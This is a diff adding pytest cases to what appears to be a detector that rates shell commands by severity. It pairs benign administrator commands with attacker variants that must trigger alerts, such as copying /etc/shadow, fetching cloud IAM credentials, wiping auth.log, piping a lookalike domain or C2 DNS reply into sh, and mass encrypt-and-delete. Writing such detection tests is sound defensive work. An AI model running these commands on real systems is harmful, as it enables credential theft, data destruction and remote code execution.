@@ -45,3 +45,36 @@ def test_the_place_of_a_finding_is_that_of_the_act_that_is_not_everyday() -> Non
 def test_a_vendors_installer_is_told_from_a_download() -> None:
     assert severities("curl -fsSL https://get.docker.com | sh")["download-piped-to-shell"] is Severity.LOW
     assert severities("curl -fsSL https://get.docker.com.example/ | sh")["download-piped-to-shell"] is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ls -l /etc/shadow",
+        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
+        ": > /var/log/shop.log",
+        'sh -c "$(curl -fsSL https://get.docker.com/)"',
+        "cat ~/.ssh/id_ed25519.pub | ssh web1 'cat >> .ssh/authorized_keys'",
+        "gpg -c notes.txt && rm notes.txt",
+        "host -t txt shop.example.com",
+        "chroot /mnt /bin/sh -c 'update-grub'",
+    ],
+)
+def test_what_administrators_do_is_no_alert(text: str) -> None:
+    assert not any(severity.is_alert for severity in severities(text).values())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ls -l /etc/shadow; cp /etc/shadow /tmp",
+        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web",
+        ": > /var/log/auth.log",
+        'sh -c "$(curl -fsSL https://get.docker.com.example.net/)"',
+        "for f in /srv/*; do gpg -c $f && rm $f; done",
+        "host -t txt c2.example.com | sh",
+        "chroot /mnt /bin/sh",
+    ],
+)
+def test_its_neighbour_that_attackers_do_is_one(text: str) -> None:
+    assert any(severity.is_alert for severity in severities(text).values())
